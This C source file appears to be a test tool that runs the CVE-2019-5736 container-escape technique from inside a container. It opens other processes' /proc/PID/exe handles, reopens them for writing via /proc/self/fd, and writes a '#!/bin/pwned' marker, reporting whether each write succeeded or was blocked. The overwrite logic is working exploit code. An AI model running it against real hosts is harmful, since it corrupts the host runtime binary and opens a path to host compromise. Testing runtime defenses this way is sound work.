/* exe-attack: the CVE-2019-5736 attacker, run inside a container (static).
 *
 *   exe-attack SECONDS HOST_DEV HOST_INO
 *
 * For SECONDS it scans /proc for other processes, opens /proc/PID/exe of each
 * one it may (O_RDONLY: what the exploit does), and for every handle that is
 * neither busybox nor itself keeps trying to reopen it for writing through
 * /proc/self/fd/N and write to it (the runtime binary is ETXTBSY while it
 * runs, so the exploit waits for it to exit).  Prints one line per event:
 *   SEEN <pid> <readlink of exe>        a handle on a foreign executable
 *   HOSTEXE <pid>                       that handle is the host binary (dev:ino)
 *   WROTE <pid> <target>                the write succeeded: exploit worked
 *   BLOCKED <pid> <target> <error>      reopen/write refused after 2 s of tries
 * and DONE at the end. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double
now (void)
{
  struct timespec t;
  clock_gettime (CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

static int seen[65536];

int
main (int argc, char **argv)
{
  if (argc != 4)
    return 2;
  double end = now () + atof (argv[1]);
  unsigned long long host_dev = strtoull (argv[2], NULL, 0), host_ino = strtoull (argv[3], NULL, 0);
  struct stat self, bb;
  stat ("/proc/self/exe", &self);
  stat ("/bin/busybox", &bb);
  setvbuf (stdout, NULL, _IOLBF, 0);
  while (now () < end)
    {
      DIR *d = opendir ("/proc");
      struct dirent *e;
      while (d && (e = readdir (d)) != NULL)
        {
          int pid = atoi (e->d_name);
          if (pid <= 0 || pid == getpid () || pid >= 65536 || seen[pid])
            continue;
          char path[64], target[256] = "";
          snprintf (path, sizeof path, "/proc/%d/exe", pid);
          int fd = open (path, O_RDONLY | O_CLOEXEC);
          if (fd < 0)
            continue;
          struct stat sb;
          fstat (fd, &sb);
          if ((sb.st_dev == self.st_dev && sb.st_ino == self.st_ino) || (sb.st_dev == bb.st_dev && sb.st_ino == bb.st_ino))
            {
              close (fd);
              continue;
            }
          seen[pid] = 1;
          ssize_t n = readlink (path, target, sizeof target - 1);
          target[n > 0 ? n : 0] = '\0';
          printf ("SEEN %d %s\n", pid, target);
          if ((unsigned long long) sb.st_dev == host_dev && (unsigned long long) sb.st_ino == host_ino)
            printf ("HOSTEXE %d\n", pid);
          char self_fd[64];
          snprintf (self_fd, sizeof self_fd, "/proc/self/fd/%d", fd);
          double give_up = now () + 2;
          int err = 0;
          const char *what = "open";
          for (;;)
            {
              int w = open (self_fd, O_WRONLY | O_CLOEXEC);
              if (w >= 0)
                {
                  what = "write";
                  if (write (w, "#!/bin/pwned\n", 13) == 13)
                    {
                      printf ("WROTE %d %s\n", pid, target);
                      close (w);
                      break;
                    }
                  err = errno;
                  close (w);
                }
              else
                err = errno;
              if (now () > give_up)
                {
                  printf ("BLOCKED %d %s %s: %s\n", pid, target, what, strerror (err));
                  break;
                }
              usleep (1000);
            }
          close (fd);
        }
      if (d)
        closedir (d);
    }
  printf ("DONE\n");
  return 0;
}
